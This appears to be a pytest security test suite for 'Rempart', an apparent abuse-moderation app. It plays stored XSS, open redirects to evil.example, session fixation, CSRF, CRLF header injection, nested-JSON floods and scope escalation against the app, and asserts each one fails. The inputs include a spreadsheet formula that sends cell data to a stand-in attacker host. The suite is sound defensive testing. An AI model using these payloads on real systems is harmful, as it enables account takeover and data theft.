"""Round 2 of the attack suite (issue #13): new ways to turn Rempart against the people it
protects, each played end to end against the real app, a real database and the real bot.

Tests that pass are regression guards (the attack fails). Tests marked ``xfail(strict=True)``
are findings: the attack works today, the reason says what to change; they turn into guards
when the fix lands (strict: an unexpected pass fails, so the mark must then be removed).

- anonymous visitor: hostile text in every field a moderator reads (stored XSS), open
  redirects after signing in, a planted session cookie, deeply nested JSON, case numbers
  probed through every door of the portal and of the report status page;
- group member / poster: a caption of 200 links that stopped the moderators' evidence PDF;
  admin commands as a member, a channel or the anonymous admin; edits; mass ``/report``; the
  linked channel's automatic forward;
- stalker: registers a photo of her that she already registered, to learn where it circulates;
- integrator: a token reaching past its scopes, removing victims' registrations, spreadsheet
  formulas in a bank export, the victim's contact;
- moderator / insider: admin pages, her own role, forged console posts, look-alike names.
"""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urljoin, urlsplit

import pytest
from bot_support import (
    ADMIN,
    ADMIN_CHAT,
    BLOCK_SEED,
    CHAT,
    USER,
    BotHarness,
    bank_db,
    cropped_copy,
)
from portal_support import device_signals
from web_support import PASSWORD, WebClient, add_users

from evidence_support import require_poppler
from rempart.adapters.cli.scan_cmd import ExportSource
from rempart.adapters.web.session import make_state
from rempart.app import App, build, create_http_app
from rempart.bench.fake_bot_api import FakeBotApi
from rempart.bench.synthetic_images import photo_bytes
from rempart.config import NoticeSettings, Settings, WebSettings
from rempart.services.matching import MatchService
from rempart.services.proof_of_work import solve
from rempart.services.scan import ScanService
from rempart.store.notices import NoticeFilter, SqlNoticeStore
from rempart.store.reviews import NewReviewItem
from rempart.store.rows import utc_now
from rempart.store.scans import SqlScanStore
from rempart.store.sql import open_store
from rempart.store.users import SqlUserStore

BITS = 8
XSS = '"><script>alert(1)</script><img src=x onerror=alert(2)><a href="javascript:alert(3)">'
RAW_MARKUP = ("<script>alert", "<img src=x", 'href="javascript:', "onerror=alert(2)>")
ANONYMOUS_ADMIN_BOT = 1087968824  # Telegram's GroupAnonymousBot, "from" of anonymous admins


@pytest.fixture
def site(sqlite_url: str) -> Iterator[tuple[App, WebClient]]:
    """The whole app on SQLite with users (admin ``boss``, moderators, analyst ``reader``),
    an easy proof of work and generous public limits (the probes are not about rates)."""
    app = build(Settings(
        database_url=sqlite_url,
        notices=NoticeSettings(public_rate_per_minute=1000.0, public_burst=1000),
        web=WebSettings(protect_pow_bits=BITS, protect_burst=1000,
                        protect_rate_per_minute=1000.0)))
    add_users(app)
    with WebClient(create_http_app(app)) as client:
        yield app, client
    app.close()


def _bearer(app: App, *scopes: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {app.tokens.create('probe', scopes, None, None)[1]}"}


def _portal_token(client: WebClient) -> str:
    found = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/protect").text)
    assert found
    return found.group(1)


def _register(client: WebClient, data: bytes) -> dict[str, Any]:
    token = _portal_token(client)
    got = client.get("/protect/challenge").json()
    r = client.post("/protect/register", json={
        "challenge": got["challenge"], "nonce": solve(got["challenge"], got["bits"]),
        "items": [device_signals(data)], "minor": False}, headers={"X-CSRF-Token": token})
    assert r.status_code == 201, r.text
    body: dict[str, Any] = r.json()
    return body


def _case_page(client: WebClient, case: str, secret: str) -> str:
    r = client.post("/protect/status", data={
        "case_number": case, "secret": secret, "csrf_token": client.csrf("/protect/status")})
    assert r.status_code == 200, r.text
    return str(r.text)


def _dd(page: str, name: str) -> str:
    found = re.search(rf'<dd id="{name}">([^<]*)</dd>', page)
    assert found, name
    return found.group(1)


# --- anonymous visitor / group member: stored XSS in what moderators read --------------------


def test_hostile_text_everywhere_a_moderator_reads_stays_inert(
        site: tuple[App, WebClient]) -> None:
    """Chat titles, sender names, message texts, file names, report fields, bank entries'
    provenance and decision reasons carry markup; every console page prints it as text."""
    app, client = site
    # A public DSA notice whose every free field is hostile.
    r = client.form("/report", "/report", {
        "category": "ncii", "explanation": XSS, "location_text": XSS, "contact_name": XSS,
        "contact_email": "a@example.org", "good_faith": "on"})
    assert r.status_code == 201, r.text
    case = re.search(r"RMP-\d{4}-\d{6}", r.text)
    assert case
    # An integrator's bank entry whose provenance is hostile.
    admin = _bearer(app, "admin")
    assert client.post("/api/v1/banks", json={"name": "probe", "kind": "moderator",
                                              "description": XSS},
                       headers=admin).status_code == 201
    r = client.post("/api/v1/banks/probe/signals", headers=admin, json={"signals": [{
        "signal_type": "pdq", "signal_value": "0" * 64, "source": XSS, "external_id": XSS,
        "case_id": XSS, "metadata": {"file_name": XSS}}]})
    assert r.status_code == 201, r.text
    # A bot sighting from a chat, a sender and a file named by the attacker.
    reviews = make_state(app).reviews
    item, _ = reviews.create(NewReviewItem(
        "bot", "text_flag", "bot:-1001:1:text", utc_now(), labels=(XSS,),
        location={"platform": "telegram", "chat": -1001, "chat_title": XSS,
                  "sender_name": XSS, "file_name": XSS, "link": f"javascript:{XSS}"},
        evidence={"text": XSS, "reasons": [XSS]}))
    media, _ = reviews.create(NewReviewItem(
        "bot", "media_match", "bot:-1001:2:x:1", utc_now(), bank="probe", entry_id=1,
        signal="pdq", distance=0, location={"chat_title": XSS, "link": XSS}))

    client.login("mod-a")
    r = client.form(f"/console/review/{item.id}/decide", f"/console/review/{item.id}",
                    {"decision": "dismiss", "reason": XSS})
    assert r.status_code == 303, r.text
    pages = ["/console/", "/console/review", f"/console/review/{item.id}",
             f"/console/review/{media.id}", "/console/notices",
             f"/console/notices/{case.group(0)}", "/console/banks", "/console/banks/probe",
             "/console/evidence"]
    seen = {}
    for page in pages:
        got = client.get(page)
        assert got.status_code == 200, (page, got.status_code)
        seen[page] = got.text
    with WebClient(create_http_app(app)) as boss:
        boss.login("boss")
        for page in ("/console/audit", "/console/users"):
            got = boss.get(page)
            assert got.status_code == 200, page
            seen[page] = got.text
    for page, text in seen.items():
        assert not [m for m in RAW_MARKUP if m in text], page
    assert "&lt;script&gt;alert(1)" in seen[f"/console/review/{item.id}"]
    assert "&lt;script&gt;alert(1)" in seen[f"/console/notices/{case.group(0)}"]
    assert "&lt;script&gt;alert(1)" in seen["/console/banks/probe"]


# --- anonymous visitor: where the login sends you, and a planted cookie ----------------------


@pytest.mark.parametrize("target", [
    "//evil.example/console", "/console//evil.example", "/console/\\evil.example",
    "https://evil.example/console", "/console@evil.example", "/\t/evil.example/console",
    "/console/\t/\t/evil.example", "/console/%2F%2Fevil.example", "/console\r\nSet-Cookie: x=1",
    "/console/..//evil.example", "javascript:alert(1)//console",
])
def test_signing_in_never_leaves_the_site(site: tuple[App, WebClient], target: str) -> None:
    _, client = site
    token = client.csrf("/console/login")
    r = client.post("/console/login", data={"username": "mod-a", "password": PASSWORD,
                                            "next": target, "csrf_token": token})
    assert r.status_code == 303
    location = r.headers["location"]
    assert "\r" not in location and "\n" not in location and "\t" not in location
    landed = urlsplit(urljoin("http://testserver/console/login", location))
    assert (landed.scheme, landed.netloc) == ("http", "testserver"), location
    assert landed.path.startswith("/console")
    assert not [c for c in r.headers.get_list("set-cookie") if c.startswith("x=")]


def test_a_planted_session_cookie_is_not_kept_at_sign_in(site: tuple[App, WebClient]) -> None:
    """Session fixation: the attacker's own session cookie, planted in a moderator's browser
    while her sign-in form is open, is ended when she signs in; she gets a fresh one and the
    attacker's stops working."""
    app, client = site
    token = client.csrf("/console/login")
    with WebClient(create_http_app(app)) as attacker:
        attacker.login("reader")
        planted = attacker.client.cookies["rempart_session"]
        client.client.cookies.set("rempart_session", planted)
        r = client.post("/console/login", data={
            "username": "mod-a", "password": PASSWORD, "csrf_token": token})
        assert r.status_code == 303, r.text
        fresh = re.search(r"rempart_session=([^;]+)", r.headers["set-cookie"])
        assert fresh and fresh.group(1) != planted
        client.client.cookies.clear()
        client.client.cookies.set("rempart_session", fresh.group(1))
        assert attacker.get("/console/").status_code == 303  # the planted session is over
    page = client.get("/console/")
    assert page.status_code == 200 and "mod-a" in page.text


# --- anonymous visitor: the portal -----------------------------------------------------------


def test_deeply_nested_json_on_the_portal_is_a_clear_error(site: tuple[App, WebClient]) -> None:
    _, client = site
    token = _portal_token(client)
    for path in ("/protect/register", "/protect/add"):
        try:
            r = client.post(path, content=b"[" * 100_000, headers={
                "X-CSRF-Token": token, "Content-Type": "application/json"})
        except RecursionError:  # what the ASGI transport re-raises for an unhandled error
            pytest.fail(f"{path}: unhandled RecursionError (500)")
        assert r.status_code in (400, 413, 422), (path, r.status_code)


def test_deeply_nested_json_on_the_api_is_a_clear_error(site: tuple[App, WebClient]) -> None:
    app, client = site
    admin = _bearer(app, "admin", "match", "notices")
    for path in ("/api/v1/match", "/api/v1/banks/x/signals", "/api/v1/notices",
                 "/api/v1/tokens", "/api/v1/text/classify", "/api/v1/notices/status"):
        r = client.post(path, content=b"[" * 100_000,
                        headers={**admin, "Content-Type": "application/json"})
        assert r.status_code in (400, 404, 413, 422), (path, r.status_code)


def test_case_numbers_cannot_be_told_from_wrong_secrets_at_any_door(
        site: tuple[App, WebClient]) -> None:
    """A stalker probing case numbers gets the same answer for a case that exists (wrong
    secret) and one that does not, on the status page, the evidence download and adding."""
    _, client = site
    done = _register(client, photo_bytes(31, (320, 240), "PNG"))
    real, ghost = done["case_number"], "VIC-2026-999999"

    def status(case: str) -> tuple[int, bytes]:
        r = client.post("/protect/status", data={
            "case_number": case, "secret": "guess", "csrf_token": client.csrf("/protect/status")})
        return r.status_code, r.content

    def evidence(case: str) -> tuple[int, bytes]:
        r = client.post("/protect/evidence", data={
            "case_number": case, "secret": "guess", "csrf_token": client.csrf("/protect/status")})
        return r.status_code, r.content

    def add(case: str) -> tuple[int, bytes]:
        token = _portal_token(client)
        got = client.get("/protect/challenge").json()
        r = client.post("/protect/add", json={
            "challenge": got["challenge"], "nonce": solve(got["challenge"], got["bits"]),
            "case_number": case, "secret": "guess",
            "items": [device_signals(photo_bytes(32, (320, 240), "PNG"))]},
            headers={"X-CSRF-Token": token})
        return r.status_code, r.content

    def notice(case: str) -> tuple[int, bytes]:
        r = client.post("/report/status", data={
            "case_number": case, "secret": "guess", "csrf_token": client.csrf("/report/status")})
        return r.status_code, r.content.replace(case.encode(), b"CASE")  # echoed in the form

    filed = client.form("/report", "/report", {
        "category": "ncii", "explanation": "This message shows my photo without my consent.",
        "location_text": "a group chat",
        "good_faith": "on"})
    assert filed.status_code == 201
    notice_case = re.search(r"RMP-\d{4}-\d{6}", filed.text)
    assert notice_case
    assert notice(notice_case.group(0)) == notice("RMP-2026-999999")
    for door in (status, evidence, add):
        assert door(real) == door(ghost), door.__name__
        assert door(real)[0] == 404


# --- group member: a message that breaks the moderators' evidence package ------------------


def _export_with(dest: Path, photo: bytes, text: str, sender: str) -> Path:
    (dest / "photos").mkdir(parents=True)
    (dest / "photos" / "p.jpg").write_bytes(photo)
    message = {"type": "message", "id": 3, "date": "2024-02-01T10:00:00",
               "date_unixtime": "1706781600", "from": sender, "from_id": "user9001",
               "photo": "photos/p.jpg", "width": 480, "height": 360, "text": text}
    chat = {"name": "Harbour Club", "type": "private_supergroup", "id": 1555000111,
            "messages": [message]}
    (dest / "result.json").write_text(json.dumps(chat), encoding="utf-8")
    return dest


def test_a_message_full_of_links_does_not_stop_the_evidence_package(
        site: tuple[App, WebClient], tmp_path: Path) -> None:
    """A poster captions the banked photo with a message of 200 links (within Telegram's 4,096
    characters): the moderators' package of that sighting is still built, every link in it.
    (Before, the PDF's fact table could not fit the cell on a page: LayoutError, a 500.)"""
    require_poppler()
    app, client = site
    photo = photo_bytes(34, (480, 360), "JPEG")
    admin = _bearer(app, "admin")
    assert client.post("/api/v1/banks", json={"name": "confirmed", "kind": "moderator"},
                       headers=admin).status_code == 201
    assert client.post("/api/v1/banks/confirmed/media", content=photo, headers={
        **admin, "Content-Type": "image/jpeg"}).status_code == 201
    links = [f"https://t.me/+L{i:03d}" for i in range(200)]
    export = _export_with(tmp_path / "export", photo, " ".join(links), "A" * 64 + " " + "B" * 64)
    matcher = MatchService(app.store)
    matcher.load()
    ScanService(app.store, SqlScanStore(app.store.engine), matcher, Settings(),
                source=ExportSource(), commit_seconds=0.05).scan([export], workers=1)
    client.login("mod-a")
    page = client.get("/console/evidence")
    ids = re.findall(r'name="finding" value="(\d+)"', page.text)
    assert ids, page.text
    r = client.form("/console/evidence", "/console/evidence",
                    {"finding": ids, "language": "en"})
    assert r.status_code == 200, r.text[:500]
    with zipfile.ZipFile(io.BytesIO(r.content)) as archive:
        pdf = tmp_path / "package.pdf"
        pdf.write_bytes(archive.read("package.pdf"))
        package = json.loads(archive.read("package.json"))
    text = subprocess.run(["pdftotext", "-enc", "UTF-8", str(pdf), "-"], capture_output=True,
                          check=True).stdout.decode()
    found = [link for entry in package["timeline"] for link in entry["links"]]
    assert len(found) >= 50, len(found)  # the links the scan kept are many
    assert [link for link in found if link not in text] == []  # and all printed


# --- stalker: "is this photo of her in the bank, and where is it seen?" ----------------------


def test_registering_her_photo_again_tells_a_stalker_nothing(
        site: tuple[App, WebClient]) -> None:
    app, client = site
    photo = photo_bytes(33, (480, 360), "PNG")
    victim = _register(client, photo)
    stalker = _register(client, photo)
    assert set(stalker) == set(victim)  # the registration itself answers alike (checked)
    app.matching.refresh()
    report = app.matching.match_bytes(photo, place="telegram:-1001", sender="user:7")
    assert {m.case_id for m in report.matches} == {victim["case_number"],
                                                     stalker["case_number"]}
    reviews = make_state(app).reviews
    for n, m in enumerate(report.matches):  # what the bot files: one review item per match
        reviews.create(NewReviewItem(
            "bot", "media_match", f"bot:-1001:5:u:{m.entry}", utc_now(), bank=m.bank,
            entry_id=m.entry, content_group=m.content_group, signal=m.signal,
            distance=m.distance, location={"platform": "telegram", "chat": -1001,
                                              "message": 5 + n}))
    mine = _case_page(client, victim["case_number"], victim["secret"])
    assert _dd(mine, "awaiting-review") == "1"  # the person it shows is told it was seen
    theirs = _case_page(client, stalker["case_number"], stalker["secret"])
    assert _dd(theirs, "awaiting-review") == "0"


def test_a_moderator_clears_a_duplicate_registration_from_the_console(
        site: tuple[App, WebClient]) -> None:
    """The second registration is flagged in the review queue; confirming the flag shows that
    case its sightings (dismissing keeps them hidden: tests/services/test_cases_duplicates)."""
    app, client = site
    photo = photo_bytes(36, (480, 360), "PNG")
    _register(client, photo)
    second = _register(client, photo)
    app.matching.refresh()
    [m] = [m for m in app.matching.match_bytes(photo, record=False).matches
           if m.case_id == second["case_number"]]
    make_state(app).reviews.create(NewReviewItem(
        "bot", "media_match", f"bot:-1001:9:u:{m.entry}", utc_now(), bank=m.bank,
        entry_id=m.entry, content_group=m.content_group, signal=m.signal,
        distance=m.distance,
        location={"platform": "telegram", "chat": -1001, "message": 9}))
    page = _case_page(client, second["case_number"], second["secret"])
    assert _dd(page, "awaiting-review") == "0"
    client.login("mod-a")
    ids = re.findall(r'href="/console/review/(\d+)"', client.get("/console/review").text)
    [flag] = [i for i in ids if "dup_registration" in client.get(f"/console/review/{i}").text]
    card = client.get(f"/console/review/{flag}").text
    assert second["case_number"] in card and second["secret"] not in card
    r = client.form(f"/console/review/{flag}/decide", f"/console/review/{flag}",
                    {"decision": "confirm", "reason": "her own photo, checked with her"})
    assert r.status_code == 303, r.text[:500]  # decided: back to the queue
    page = _case_page(client, second["case_number"], second["secret"])
    assert _dd(page, "awaiting-review") == "1"


def test_the_victims_contact_reaches_no_moderator_and_no_integrator(
        site: tuple[App, WebClient]) -> None:
    """The optional contact given on /protect is kept for the person only (cleared at close):
    no console page, moderators' package, API answer or bank export shows it."""
    app, client = site
    contact = "her-private-address@example.org"
    photo = photo_bytes(35, (480, 360), "PNG")
    token = _portal_token(client)
    got = client.get("/protect/challenge").json()
    r = client.post("/protect/register", json={
        "challenge": got["challenge"], "nonce": solve(got["challenge"], got["bits"]),
        "items": [device_signals(photo)], "minor": True, "contact": contact},
        headers={"X-CSRF-Token": token})
    assert r.status_code == 201, r.text
    case = r.json()["case_number"]
    app.matching.refresh()
    [m] = app.matching.match_bytes(photo).matches
    item, _ = make_state(app).reviews.create(NewReviewItem(
        "bot", "media_match", "bot:-1001:7:u:1", utc_now(), bank=m.bank,
        entry_id=m.entry, content_group=m.content_group, signal=m.signal,
        distance=m.distance, location={"platform": "telegram", "chat": -1001}))
    client.login("mod-a")
    texts = [client.get(p).text for p in (
        "/console/", "/console/review", f"/console/review/{item.id}", "/console/notices",
        f"/console/banks/{m.bank}")]
    notices = SqlNoticeStore(app.store.engine).list_notices(NoticeFilter(), 10, 0).items
    texts += [client.get(f"/console/notices/{n.case_number}").text for n in notices]
    package = client.form("/console/evidence/case", "/console/evidence",
                          {"case_number": case, "language": "en"})
    assert package.status_code == 200
    with zipfile.ZipFile(io.BytesIO(package.content)) as archive:
        texts += [archive.read(n).decode("utf-8", "replace") for n in archive.namelist()]
    moderator = _bearer(app, "admin")
    texts += [client.get(p, headers=moderator).text for p in (
        "/api/v1/cases", f"/api/v1/banks/{m.bank}/export?format=jsonl",
        f"/api/v1/banks/{m.bank}/entries/{m.entry}", "/api/v1/notices", "/api/v1/audit")]
    assert [n for n, text in enumerate(texts) if contact in text] == []


def test_look_alike_names_are_refused(site: tuple[App, WebClient]) -> None:
    """An insider cannot make a user or a bank whose name reads like another's (Cyrillic
    letters, invisible characters, upper case)."""
    app, client = site
    admin = _bearer(app, "admin")
    for name in ("v\u0456ctims", "victims\u200b", "ＶＩＣＴＩＭＳ", "victims\u202e"):
        r = client.post("/api/v1/banks", json={"name": name, "kind": "victim"}, headers=admin)
        assert r.status_code == 422, name
    client.login("boss")
    before = {u.username for u in SqlUserStore(app.store.engine).list_users()}
    for name in ("b\u043ess", "boss\u200b", "Boss", "boss "):
        client.form("/console/users", "/console/users", {"username": name, "role": "admin"})
    after = {u.username for u in SqlUserStore(app.store.engine).list_users()}
    assert after == before
    client.form("/console/users", "/console/users", {"username": "boss2", "role": "admin"})
    assert "boss2" in {u.username for u in SqlUserStore(app.store.engine).list_users()}


# --- integrator: tokens ----------------------------------------------------------------------


def test_a_token_reaches_nothing_past_its_scopes(site: tuple[App, WebClient]) -> None:
    app, client = site
    admin = _bearer(app, "admin")
    assert client.post("/api/v1/banks", json={"name": "b1", "kind": "victim"},
                       headers=admin).status_code == 201
    match = _bearer(app, "match")
    writer = _bearer(app, "banks:read", "banks:write")
    reads = ["/api/v1/banks", "/api/v1/banks/b1", "/api/v1/banks/b1/export",
             "/api/v1/banks/b1/entries/1", "/api/v1/cases", "/api/v1/cases/1", "/api/v1/audit",
             "/api/v1/scans", "/api/v1/notices", "/api/v1/tokens", "/api/v1/statements",
             "/metrics", "/api/v1/contents/x/sightings"]
    for path in reads:
        assert client.get(path, headers=match).status_code == 403, path
    for path in ("/api/v1/cases", "/api/v1/audit", "/api/v1/tokens", "/api/v1/notices"):
        assert client.get(path, headers=writer).status_code == 403, path
    for who in (match, writer):
        r = client.post("/api/v1/tokens", json={"name": "mine", "scopes": ["admin"]},
                        headers=who)
        assert r.status_code == 403
        assert client.post("/api/v1/evidence", json={"findings": [1]},
                           headers=who).status_code == 403
    # Scopes are a closed list: no wildcard, no look-alike of a known scope.
    for scope in ("*", "admin ", "ADMIN", "аdmin", "banks:*"):  # the fourth has a Cyrillic а
        r = client.post("/api/v1/tokens", json={"name": "x", "scopes": [scope]}, headers=admin)
        assert r.status_code == 422, scope
    # The console does not take a token instead of a session.
    assert client.get("/console/", headers=admin).status_code == 303


def test_an_integrator_cannot_remove_a_victims_registration(site: tuple[App, WebClient]) -> None:
    app, client = site
    photo = photo_bytes(36, (480, 360), "PNG")
    _register(client, photo)
    app.matching.refresh()
    assert app.matching.match_bytes(photo).matches
    writer = _bearer(app, "banks:read", "banks:write")
    refused = [client.request("DELETE", f"/api/v1/banks/victims/entries/{n}", headers=writer)
               for n in range(1, 12)]  # entry ids are sequential: guessing is enough
    app.matching.refresh()
    assert app.matching.match_bytes(photo).matches, "her protection is gone"
    assert {r.status_code for r in refused} <= {403, 404}


def test_a_bank_export_holds_no_spreadsheet_formula(site: tuple[App, WebClient]) -> None:
    app, client = site
    writer = _bearer(app, "banks:read", "banks:write")
    assert client.post("/api/v1/banks", json={"name": "shared", "kind": "moderator"},
                       headers=writer).status_code == 201
    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    r = client.post("/api/v1/banks/shared/signals", headers=writer, json={"signals": [{
        "signal_type": "pdq", "signal_value": "0" * 64, "source": formula,
        "external_id": "@SUM(1+1)", "labels": ["+cmd"], "metadata": {"n": "-1"}}]})
    assert r.status_code == 201, r.text
    export = client.get("/api/v1/banks/shared/export", params={"format": "csv"},
                        headers=_bearer(app, "banks:read", "cases"))
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(export.text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells


# --- moderator (low role) ----------------------------------------------------------------------


def test_a_moderator_reaches_no_admin_page_nor_her_own_role(
        site: tuple[App, WebClient]) -> None:
    app, client = site
    client.login("mod-a")
    for page in ("/console/users", "/console/users/boss", "/console/audit"):
        assert client.get(page).status_code == 403, page
    # Statements of reasons are for every signed-in user; their file name takes no input.
    r = client.get("/console/statements/export.csv",
                   params={"since": '2026-01-01"\r\nX-Evil: 1', "until": '";.exe'})
    assert r.status_code == 200 and "x-evil" not in r.headers
    assert r.headers["content-disposition"] == 'attachment; filename="statements-2026-01-01.csv"'
    token = client.csrf("/console/")
    for path, data in (("/console/users/mod-a/role", {"role": "admin"}),
                       ("/console/users", {"username": "mine", "role": "admin"}),
                       ("/console/users/boss/disable", {}),
                       ("/console/users/boss/reset", {}),
                       ("/console/users/boss/sessions/revoke", {}),
                       ("/console/users/mod-b/unlock", {})):
        r = client.post(path, data={**data, "csrf_token": token})
        assert r.status_code == 403, path
    users = SqlUserStore(app.store.engine).list_users()
    assert sorted((u.username, u.role.value) for u in users) == [
        ("boss", "admin"), ("mod-a", "moderator"), ("mod-b", "moderator"),
        ("reader", "analyst")]
    assert not any(u.disabled for u in users)
    # An analyst (read-only) builds no evidence package, by findings or by case.
    with WebClient(create_http_app(app)) as reader:
        reader.login("reader")
        token = reader.csrf("/console/")
        for path, data in (("/console/evidence", {"finding": "1"}),
                           ("/console/evidence/case", {"case_number": "VIC-2026-000001"})):
            assert reader.post(path, data={**data, "csrf_token": token}).status_code == 403


def test_console_posts_from_another_site_are_refused(site: tuple[App, WebClient]) -> None:
    """CSRF: a signed-in moderator's browser posting a form made elsewhere (no token, a token
    of another session, the anonymous cookie's token) changes nothing."""
    app, client = site
    reviews = make_state(app).reviews
    item, _ = reviews.create(NewReviewItem(
        "bot", "text_flag", "bot:-1001:9:text", utc_now(), labels=("x",),
        location={"chat": -1001}, evidence={"text": "hello"}))
    with WebClient(create_http_app(app)) as other:
        other.login("mod-b")
        foreign = other.csrf("/console/")
    anonymous = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/report").text)
    assert anonymous
    client.login("mod-a")
    for token in (None, foreign, anonymous.group(1), ""):
        data = {"decision": "dismiss", "reason": "forged"}
        if token is not None:
            data["csrf_token"] = token
        r = client.post(f"/console/review/{item.id}/decide", data=data,
                        headers={"Origin": "https://evil.example"})
        assert r.status_code == 403
    assert reviews.evidence(item.id).item.status == "open"


# --- group member: the bot -----------------------------------------------------------------


@pytest.fixture
def group(sqlite_url: str) -> Iterator[tuple[FakeBotApi, BotHarness]]:
    store = open_store(sqlite_url)
    bank_db(store)
    store.close()
    with FakeBotApi() as api:
        api.set_admins(CHAT, {ADMIN})
        harness = BotHarness(api, sqlite_url)
        try:
            yield api, harness
        finally:
            harness.close()


def test_admin_commands_from_members_and_anonymous_senders_do_nothing(
        group: tuple[FakeBotApi, BotHarness]) -> None:
    """A member, a channel identity and the group's anonymous-admin identity (which anyone
    can imitate in name) send ``/rempart set`` and ``/rempart_purge``: nothing changes."""
    api, h = group
    victim_posts = [api.message(CHAT, USER, text=f"post {i}") for i in range(3)]
    for post in victim_posts:
        api.add_update({"message": post})
    member = USER + 6
    channel = {"id": -1005555555555, "type": "channel", "title": "Group admins"}
    anonymous = {"id": CHAT, "type": "supergroup", "title": "Test chat"}
    attacks = [
        api.message(CHAT, member, text="/rempart set enabled false"),
        api.message(CHAT, member, text=f"/rempart_purge {USER}"),
        api.message(CHAT, member, text="/rempart_purge", reply_to_message=victim_posts[0]),
        api.message(CHAT, 136817688, text="/rempart set enabled false", sender_chat=channel),
        api.message(CHAT, 136817688, text=f"/rempart_purge {USER}", sender_chat=channel),
        api.message(CHAT, ANONYMOUS_ADMIN_BOT, text=f"/rempart_purge {USER}",
                    sender_chat=anonymous),
        api.message(CHAT, ANONYMOUS_ADMIN_BOT, text="/rempart set enabled false",
                    sender_chat=anonymous),
    ]
    for attack in attacks:
        api.add_update({"message": attack})
    runner = h.runner()
    h.run_until(runner, lambda: runner.processed >= len(victim_posts) + len(attacks))
    assert runner.processed >= len(victim_posts) + len(attacks)
    assert not api.calls_to("banChatMember") and not api.calls_to("restrictChatMember")
    deleted = api.deleted()
    assert not {(CHAT, p["message_id"]) for p in victim_posts} & deleted
    assert h.bot_store.messages_since(CHAT, USER, utc_now().replace(year=2000))
    assert not [c for c in api.calls_to("sendMessage") if "Set " in str(c.params.get("text"))]


def test_one_member_cannot_flood_the_urgent_queue_with_report(
        group: tuple[FakeBotApi, BotHarness]) -> None:
    api, h = group
    target = api.message(CHAT, USER, text="an ordinary message")
    for _ in range(5):
        api.add_update({"message": api.message(CHAT, USER + 5, text="/report csam",
                                               reply_to_message=target)})
    runner = h.runner()
    h.run_until(runner, lambda: runner.processed >= 5)
    notices = SqlNoticeStore(h.stores[-1].engine).list_notices(NoticeFilter(), 50, 0).items
    alerts = [c for c in api.calls_to("sendMessage") if c.params["chat_id"] == ADMIN_CHAT]
    assert (CHAT, target["message_id"]) not in api.deleted()  # a report never deletes
    assert len(notices) == 1, [n.new.category for n in notices]
    assert len(alerts) == 1


def _block_photo_update(api: FakeBotApi, **extra: Any) -> dict[str, Any]:
    """A message carrying the block bank's photo (a cropped, re-encoded copy)."""
    return api.photo_message(CHAT, extra.pop("user", USER), cropped_copy(BLOCK_SEED), **extra)


def test_banked_photo_sent_by_edit_or_as_anonymous_admin_is_removed_without_banning_the_group(
        group: tuple[FakeBotApi, BotHarness]) -> None:
    """A member posts text then edits it into the banked photo; the group's anonymous admin
    identity posts it too: both are removed, and the group itself (its own id as the sender
    chat) and Telegram's GroupAnonymousBot are never banned or restricted."""
    api, h = group
    first = api.message(CHAT, USER, text="nothing to see")
    api.add_update({"message": first})
    edited = _block_photo_update(api, message_id=first["message_id"],
                                 edit_date=first["date"] + 5)["message"]
    api.add_update({"edited_message": edited})
    anonymous = _block_photo_update(api, user=ANONYMOUS_ADMIN_BOT, sender_chat={
        "id": CHAT, "type": "supergroup", "title": "Test chat"})
    api.add_update(anonymous)
    runner = h.runner()
    h.run_until(runner, lambda: runner.processed >= 3 and len(api.deleted()) >= 2)
    assert {(CHAT, first["message_id"]),
            (CHAT, anonymous["message"]["message_id"])} <= api.deleted()
    banned_chats = {c.params.get("sender_chat_id") for c in api.calls_to("banChatSenderChat")}
    assert CHAT not in banned_chats
    punished = {c.params.get("user_id") for c in
                api.calls_to("banChatMember") + api.calls_to("restrictChatMember")}
    assert ANONYMOUS_ADMIN_BOT not in punished


def test_the_linked_channels_own_post_is_removed_but_the_channel_not_banned(
        group: tuple[FakeBotApi, BotHarness]) -> None:
    api, h = group
    linked = {"id": -1007777777777, "type": "channel", "title": "The group's channel"}
    post = _block_photo_update(api, user=777000, sender_chat=linked, is_automatic_forward=True)
    api.add_update(post)
    runner = h.runner()
    h.run_until(runner, lambda: runner.processed >= 1 and bool(api.deleted()))
    assert (CHAT, post["message"]["message_id"]) in api.deleted()
    assert not api.calls_to("banChatSenderChat")
